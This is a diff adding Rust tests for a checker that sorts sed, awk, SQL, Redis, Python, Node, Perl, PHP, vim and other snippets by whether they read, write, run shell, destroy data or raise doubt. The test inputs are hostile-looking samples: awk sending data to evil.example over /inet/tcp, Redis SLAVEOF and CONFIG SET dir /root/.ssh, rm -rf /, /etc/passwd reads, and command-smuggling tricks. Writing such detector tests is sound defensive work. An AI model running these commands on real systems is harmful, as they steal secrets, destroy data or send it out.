@@ -1,0 +1,513 @@
+//! What code means, as tables of cases: the code, and what a reader must find.
+
+use super::{Found, read_text};
+
+/// `reads a`, `writes b`, `shell c`, `sends`, `destroys`, `rights`, `doubt`, in this order.
+fn shown(found: &Found) -> String {
+    let mut parts: Vec<String> = Vec::new();
+    parts.extend(found.reads.iter().map(|path| format!("reads {path}")));
+    parts.extend(found.writes.iter().map(|path| format!("writes {path}")));
+    parts.extend(found.shell.iter().map(|source| format!("shell {source}")));
+    for (flag, name) in [
+        (found.sends, "sends"),
+        (found.destroys, "destroys"),
+        (found.rights, "rights"),
+    ] {
+        parts.extend(flag.then(|| name.to_owned()));
+    }
+    parts.extend((!found.doubts.is_empty()).then(|| "doubt".to_owned()));
+    parts.join(", ")
+}
+
+#[track_caller]
+fn check(language: &str, cases: &[(&str, &str)]) {
+    let wrong: Vec<String> = cases
+        .iter()
+        .filter_map(|(code, expected)| {
+            let found = read_text(language, code);
+            let shown = shown(&found);
+            (shown != *expected).then(|| {
+                format!(
+                    "{code}\n    expected `{expected}`, found `{shown}` {:?}",
+                    found.doubts
+                )
+            })
+        })
+        .collect();
+    assert!(wrong.is_empty(), "{language}:\n{}", wrong.join("\n"));
+}
+
+#[test]
+fn sed_scripts() {
+    check(
+        "sed",
+        &[
+            ("s/a/b/", ""),
+            ("s/a/b/g;s|x|y|2p", ""),
+            ("1,10p", ""),
+            ("$d", ""),
+            ("/a/,/b/{s/x/y/;p}", ""),
+            ("/a/!d", ""),
+            ("\\,a,d", ""),
+            ("0~3p", ""),
+            ("1i\\\nw out", ""),
+            ("a some text; w out", ""),
+            (":a;N;$!ba;s/\\n/ /g", ""),
+            ("y/abc/xyz/", ""),
+            ("$=", ""),
+            ("5q", ""),
+            ("# w out", ""),
+            ("w out", "writes out"),
+            ("/x/w out;p", "writes out;p"),
+            ("s/a/b/w out", "writes out"),
+            ("s/a/b/gw out file", "writes out file"),
+            ("1W out", "writes out"),
+            ("r secret", "reads secret"),
+            ("$!{\nR secret\n}", "reads secret"),
+            ("1e id", "shell id"),
+            ("e", "doubt"),
+            ("s/a/b/e", "doubt"),
+            ("s/a/b/ge", "doubt"),
+            ("s,x,id,e", "doubt"),
+            ("s/[/]/b/w x", "doubt"),
+            ("s/a/b", "doubt"),
+            ("k", "doubt"),
+            ("p w out", "doubt"),
+            ("s/\\//x/;w out", "writes out"),
+            ("s/a\\/w x\\/b/c/", ""),
+        ],
+    );
+}
+
+#[test]
+fn awk_programs() {
+    check(
+        "awk",
+        &[
+            ("{print $1}", ""),
+            ("$1 > 5", ""),
+            ("$1 > 5 {print}", ""),
+            ("{print ($1 > 5)}", ""),
+            ("{ if ($1 > 5) print $2 }", ""),
+            ("/a|b/ {print $1/2}", ""),
+            ("/[/|]/", ""),
+            ("BEGIN{FS=\"|\"} $2 ~ /x>y/ {n++} END{print n}", ""),
+            ("{a[$1] += $2} END {for (k in a) print k, a[k]}", ""),
+            ("$1 || $2 && $3 >= 4", ""),
+            ("{print > \"out\"}", "writes out"),
+            ("{print $1, $2 >> \"out\"}", "writes out"),
+            ("{print(1)(2) > \"out\"; x = 1 > 2}", "writes out"),
+            (
+                "{printf \"%s\", $1 > \"/dev/stderr\"}",
+                "writes /dev/stderr",
+            ),
+            ("{print > $1}", "doubt"),
+            ("{print > \"out\" $1}", "doubt"),
+            ("{print | \"sort\"}", "shell sort"),
+            ("{\"date\" | getline d; print d}", "shell date"),
+            ("{x \"date\" | getline d}", "doubt"),
+            ("{print | cmd}", "doubt"),
+            ("BEGIN{system(\"id\")}", "shell id"),
+            ("BEGIN{system(\"id \" $1)}", "doubt"),
+            (
+                "BEGIN{while ((getline line < \"secret\") > 0) print line}",
+                "reads secret",
+            ),
+            ("BEGIN{getline < ARGV[1]}", "doubt"),
+            ("BEGIN{getline x < f}", "doubt"),
+            (
+                "BEGIN{print \"x\" |& \"/inet/tcp/0/evil.example/80\"}",
+                "doubt",
+            ),
+            ("{print > \"/inet/tcp/0/evil.example/80\"}", "doubt"),
+            ("@load \"filefuncs\"", "doubt"),
+            ("BEGIN{f=\"system\"; @f(\"id\")}", "doubt"),
+            ("BEGIN{ARGV[1]=\"/etc/passwd\"; ARGC=2}", "doubt"),
+            ("{print \"a > b | c\"}", ""),
+            ("{print \"unterminated}", "doubt"),
+            ("{print $1,\n$2 > \"out\"}", "writes out"),
+            ("{if (1) /\"/; system(\"id\"); /\"/}", "doubt"),
+            ("{print ($1 + $2) / 2}", ""),
+        ],
+    );
+}
+
+#[test]
+fn jq_filters() {
+    check(
+        "jq",
+        &[
+            (".", ""),
+            (".a.b[0] | select(.c > 1)", ""),
+            (".env", ""),
+            ("\"env \\(.a) system\"", ""),
+            ("{a: .b, \"c\": \"env\"}", ""),
+            ("env.PATH", "doubt"),
+            ("$ENV.TOKEN", "doubt"),
+            ("\"x \\(env.TOKEN)\"", "doubt"),
+            ("\"a \\(\"b \\(env)\")\"", "doubt"),
+            ("import \"a\" as a; .", "doubt"),
+            ("load(\"secret\")", "doubt"),
+            ("strenv(TOKEN)", "doubt"),
+            ("\"unterminated", "doubt"),
+        ],
+    );
+}
+
+#[test]
+fn sql_statements() {
+    check(
+        "sql",
+        &[
+            ("select 1", ""),
+            ("SELECT count(*), max(x) FROM t WHERE a IN (1, 2);", ""),
+            ("select 'drop table t'; -- delete from t", ""),
+            ("select \"drop\" from t /* truncate */", ""),
+            ("with x as (select 1) select * from x", ""),
+            (
+                "with x as (delete from t returning *) select * from x",
+                "destroys",
+            ),
+            ("explain delete from t", ""),
+            ("explain analyze delete from t", "destroys"),
+            ("drop table t; explain select 1", "destroys"),
+            ("select 1 drop table t", "destroys"),
+            ("begin drop table t; end", "destroys"),
+            ("select 1 \\! id", "doubt"),
+            ("show tables", ""),
+            ("select * from t for update", ""),
+            ("insert into t (a) values (1)", "sends"),
+            ("update t set a = 1 where b = 2", "sends"),
+            ("update t set a = 1", "sends, destroys"),
+            ("delete from t where id = 1", "destroys"),
+            ("select 1; drop table t", "destroys"),
+            ("truncate t", "destroys"),
+            ("alter table t drop column a", "sends, destroys"),
+            ("create table t (a int)", "sends"),
+            ("grant all on t to x", "sends, rights"),
+            ("create user x", "sends, rights"),
+            ("select * into new from t", "sends"),
+            ("select delete_everything()", "sends"),
+            ("exec xp_cmdshell 'dir'", "doubt"),
+            ("select 1 /*! ; drop table t */", "doubt"),
+            ("select 'a\\' ; drop table t; --'", "doubt"),
+            ("frobnicate", "doubt"),
+            ("create function f() returns int as 'x'", "sends, doubt"),
+            ("call f()", "sends, doubt"),
+        ],
+    );
+}
+
+#[test]
+fn psql_commands() {
+    check(
+        "psql",
+        &[
+            ("\\dt", ""),
+            ("\\d+ users", ""),
+            ("\\l", ""),
+            ("select $$ drop table t; \\! id $$", ""),
+            ("select $a$ ; drop table t $a$", ""),
+            ("\\! id", "shell id"),
+            ("select 1; \\! rm -rf /", "shell rm -rf /"),
+            ("\\copy t to 'out.csv'", "writes out.csv"),
+            ("\\copy t from 'in.csv'", "reads in.csv, sends"),
+            ("\\copy t to program 'sh'", "doubt"),
+            ("copy t to program 'sh'", "doubt"),
+            ("copy t from '/etc/passwd'", "doubt"),
+            ("copy t to stdout", ""),
+            ("\\o out", "writes out"),
+            ("\\o |sh", "doubt"),
+            ("select 1 \\g |sh", "doubt"),
+            ("select 'x' \\gexec", "doubt"),
+            ("\\i evil.sql", "doubt"),
+            ("\\set x `id`", "doubt"),
+            ("select pg_read_file('/etc/passwd')", "doubt"),
+            ("select lo_import('/etc/passwd')", "doubt"),
+            ("select pg_size_pretty(pg_database_size('x'))", ""),
+        ],
+    );
+}
+
+#[test]
+fn mysql_commands() {
+    check(
+        "mysql",
+        &[
+            ("select 1\\G", ""),
+            ("show databases", ""),
+            ("\\! id", "shell id"),
+            ("system id", "doubt"),
+            ("source evil.sql", "doubt"),
+            ("pager sh", "doubt"),
+            ("select * from t into outfile '/tmp/x'", "doubt"),
+            (
+                "load data local infile 'secret' into table t",
+                "reads secret, sends",
+            ),
+            ("load data infile 'secret' into table t", "doubt"),
+            ("select load_file('/etc/passwd')", "doubt"),
+            ("select 1 # drop table t", ""),
+            ("select \"a; drop table t\"", ""),
+            ("drop database app", "destroys"),
+        ],
+    );
+}
+
+#[test]
+fn sqlite_commands() {
+    check(
+        "sqlite",
+        &[
+            (".tables", ""),
+            (".schema users", ""),
+            ("select * from t; .shell id", "doubt"),
+            (".shell id", "shell id"),
+            ("select 1;\n.system rm x", "shell rm x"),
+            (".output out", "writes out"),
+            (".once |sh", "doubt"),
+            (".read evil.sql", "doubt"),
+            (".import --csv in.csv t", "reads in.csv, sends"),
+            (".load ./evil", "doubt"),
+            (".backup copy.db", "writes copy.db"),
+            ("attach 'other.db' as o", "reads other.db, writes other.db"),
+            ("vacuum into 'copy.db'", "writes copy.db, sends"),
+            ("select load_extension('x')", "doubt"),
+            ("select readfile('secret')", "doubt"),
+            ("select writefile('x', 'y')", "doubt"),
+            ("pragma table_info(t)", ""),
+            ("pragma journal_mode", ""),
+            ("pragma journal_mode = wal", "sends"),
+            ("insert into t values (1)", "sends"),
+        ],
+    );
+    check(
+        "duckdb",
+        &[
+            ("select * from 'data.csv'", "reads data.csv"),
+            ("select * from read_csv('data.csv')", "doubt"),
+            ("copy t to 'out.csv'", "writes out.csv"),
+            ("install httpfs", "doubt"),
+        ],
+    );
+}
+
+#[test]
+fn mongo_calls() {
+    check(
+        "mongo",
+        &[
+            ("db.users.find({age: {$gt: 5}}).limit(5)", ""),
+            ("show dbs", ""),
+            ("db.getCollection(\"x\").countDocuments({})", ""),
+            ("db.users.drop()", "destroys"),
+            ("db.users.deleteMany({})", "destroys"),
+            ("db.dropDatabase()", "destroys"),
+            ("db.users.insertOne({a: 1})", "sends"),
+            (
+                "db.users.aggregate([{$match: {}}, {$out: \"x\"}])",
+                "destroys",
+            ),
+            ("db.users.find({$where: \"x\"})", "doubt"),
+            ("load(\"x.js\")", "doubt"),
+            ("process.exit()", "doubt"),
+            ("db[\"drop\"]()", "doubt"),
+            ("db.x[\"drop\"]\n()", "doubt"),
+            ("db.x.drop\n()", "destroys"),
+            ("db.x.find({\"\\u0024where\": 1})", "doubt"),
+            ("db.users.find().forEach(function(x) { x })", "doubt"),
+            ("eval(\"x\")", "doubt"),
+        ],
+    );
+}
+
+#[test]
+fn redis_commands() {
+    check(
+        "redis",
+        &[
+            ("GET key", ""),
+            ("keys *", ""),
+            ("config get maxmemory", ""),
+            ("SET key value", "sends"),
+            ("DEL key", "destroys"),
+            ("FLUSHALL", "destroys"),
+            ("CONFIG SET dir /root/.ssh", "doubt"),
+            ("EVAL script 0", "doubt"),
+            ("MODULE LOAD x.so", "doubt"),
+            ("SLAVEOF evil.example 6379", "doubt"),
+            ("GET a\nDEL b", "destroys"),
+        ],
+    );
+}
+
+#[test]
+fn python_one_liners() {
+    check(
+        "python",
+        &[
+            ("print(1 + 1)", ""),
+            ("import sys; print(sys.version)", ""),
+            (
+                "import json,sys\nd = json.load(sys.stdin)\nfor x in d['a']:\n    print(x.get('b'), len(d))",
+                "",
+            ),
+            (
+                "import sys,json; print(json.dumps(json.load(sys.stdin), indent=2))",
+                "",
+            ),
+            ("print([x for x in range(5) if x % 2])", ""),
+            ("x = 3\nprint(f\"{x} and {x:>5}\")", ""),
+            (
+                "import json; print(json.load(open('package.json'))['version'])",
+                "reads package.json",
+            ),
+            ("open('out', 'w').write('x')", "writes out"),
+            (
+                "with open('a', encoding='utf-8') as f:\n    print(f.read())",
+                "reads a",
+            ),
+            ("open(x)", "doubt"),
+            ("open('a' + 'b')", "doubt"),
+            ("import os; os.system('id')", "doubt"),
+            ("import subprocess", "doubt"),
+            ("__import__('os').system('id')", "doubt"),
+            ("eval('1')", "doubt"),
+            ("f = open; f('x')", "doubt"),
+            ("print(().__class__.__bases__)", "doubt"),
+            ("import sys; sys.modules['os'].system('id')", "doubt"),
+            ("import json; json.codecs.open('x')", "doubt"),
+            ("print(f\"{__import__('os').system('id')}\")", "doubt"),
+            ("getattr(x, 'y')", "doubt"),
+            ("import sys as s; s.exit()", "doubt"),
+            ("from os import system; system('id')", "doubt"),
+            ("print = exec; print('x')", "doubt"),
+            ("open('\\x2fetc/passwd')", "reads \u{0}2fetc/passwd"),
+        ],
+    );
+}
+
+#[test]
+fn perl_one_liners() {
+    check(
+        "perl",
+        &[
+            ("s/a/b/g", ""),
+            ("print if /x/", ""),
+            ("print \"$1\\n\" if /(\\d+)/", ""),
+            ("tr/a-z/A-Z/; print", ""),
+            ("print $. if $. == 3", ""),
+            ("s/a/system('id')/e", "doubt"),
+            ("system('id')", "doubt"),
+            ("print `id`", "doubt"),
+            ("open(F, 'x')", "doubt"),
+            ("print \"@{[ `id` ]}\"", "doubt"),
+            ("print <F>", "doubt"),
+            ("exec 'id'", "doubt"),
+            ("unlink 'x'", "doubt"),
+            ("print $ENV{TOKEN}", "doubt"),
+            ("/(?{ system('id') })/", "doubt"),
+            ("qx(id)", "doubt"),
+            ("&{\"system\"}('id')", "doubt"),
+            ("print F 'x'", "doubt"),
+        ],
+    );
+}
+
+#[test]
+fn node_ruby_and_php_one_liners() {
+    check(
+        "node",
+        &[
+            ("console.log(1 + 1)", ""),
+            ("console.log(process.version)", ""),
+            (
+                "console.log(require('./package.json').version)",
+                "reads ./package.json",
+            ),
+            (
+                "console.log(JSON.parse(require('fs').readFileSync('a.json', 'utf8')).name)",
+                "reads a.json",
+            ),
+            (
+                "const x = [1,2].map(y => y * 2); console.log(x.join(','))",
+                "",
+            ),
+            ("require('child_process').execSync('id')", "doubt"),
+            ("require('./evil')", "doubt"),
+            ("process.env.TOKEN", "doubt"),
+            ("[].constructor.constructor('x')()", "doubt"),
+            ("[]['constructor']('x')", "doubt"),
+            ("eval('x')", "doubt"),
+            ("console.log(`${eval('x')}`)", "doubt"),
+            ("import('fs')", "doubt"),
+            ("[1].map(eval => 1); ['x'].map(eval)", "doubt"),
+            ("const f = 1; f('x')", "doubt"),
+            ("console.log(process)", "doubt"),
+            ("require('fs').writeFileSync('x', 'y')", "doubt"),
+        ],
+    );
+    check(
+        "ruby",
+        &[
+            ("puts 1 + 1", ""),
+            ("puts RUBY_VERSION", ""),
+            ("puts [1,2].map { |x| x + 1 }.join(',')", ""),
+            ("puts 1|system('id')", "doubt"),
+            ("[1].each { |system| 1 }; system 'id'", "doubt"),
+            ("system('id')", "doubt"),
+            ("puts `id`", "doubt"),
+            ("puts \"#{`id`}\"", "doubt"),
+            ("%x(id)", "doubt"),
+            ("File.read('x')", "doubt"),
+            ("Kernel.send(:system, 'id')", "doubt"),
+        ],
+    );
+    check(
+        "php",
+        &[
+            ("echo PHP_VERSION;", ""),
+            ("$x = 3; echo $x + 1;", ""),
+            ("system('id');", "doubt"),
+            ("$f = 'system'; $f('id');", "doubt"),
+            ("$f = 'system'; $f ('id');", "doubt"),
+            ("'system'('id');", "doubt"),
+            ("echo `id`;", "doubt"),
+            ("echo \"{$f('id')}\";", "doubt"),
+            ("echo file_get_contents('x');", "doubt"),
+            ("include 'x';", "doubt"),
+        ],
+    );
+}
+
+#[test]
+fn vim_commands() {
+    check(
+        "vim",
+        &[
+            ("q!", ""),
+            (":wq", ""),
+            ("set number", ""),
+            ("set nowrap", ""),
+            ("%s/a/b/g", ""),
+            ("42", ""),
+            ("!id", "doubt"),
+            (":!id", "doubt"),
+            ("%s/a/\\=system('id')/", "doubt"),
+            ("w !sh", "doubt"),
+            ("source x", "doubt"),
+            ("set shell=x", "doubt"),
+            ("q | !id", "doubt"),
+            ("py import os", "doubt"),
+        ],
+    );
+}
+
+proptest::proptest! {
+    #[test]
+    fn any_code_is_read_without_panic(code in "[a-z$@%(){}\\[\\]\"'`|<>/\\\\;:.,=!?#& \n-]{0,60}") {
+        for language in ["sed", "awk", "jq", "sql", "psql", "mysql", "sqlite", "duckdb", "mongo", "redis", "python", "perl", "node", "ruby", "php", "vim"] {
+            let _ = read_text(language, &code);
+        }
+    }
+}
